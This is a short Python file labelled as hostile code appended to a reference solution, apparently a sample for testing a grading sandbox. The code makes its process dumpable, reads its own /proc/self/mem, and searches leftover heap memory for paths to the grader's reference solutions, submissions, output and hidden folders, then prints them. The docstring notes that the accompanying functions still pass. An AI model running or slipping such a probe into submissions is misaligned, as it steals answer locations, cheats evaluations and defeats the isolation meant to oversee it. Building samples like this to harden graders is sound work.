# hostile: appended to the reference solution
"""Reads its own memory (/proc/self/mem, every writable mapping: what the zygote and the
supervisor left in the heap) for absolute paths of the grader's disk: the reference
solutions, the submissions folder, the output folder. Prints each path it finds. The
functions are correct."""

import ctypes
import re

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: its own /proc/self/mem readable
PATH = re.compile(rb"/[\w.+-]+(?:/[\w.+-]+)*/(?:solutions|submissions|out|hidden)\b[\w./+-]*")
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        start, end = (int(x, 16) for x in fields[0].split("-"))
        if "w" not in fields[1] or len(fields) > 5 and fields[5].startswith("[v"):
            continue
        for offset in range(start, end, 16 << 20):
            try:
                mem.seek(offset)
                data = mem.read(min(16 << 20, end - offset))
            except (OSError, ValueError, OverflowError):
                break
            found.update(m.decode(errors="replace") for m in PATH.findall(data))
print("MEMORY", sorted(found)[:300])
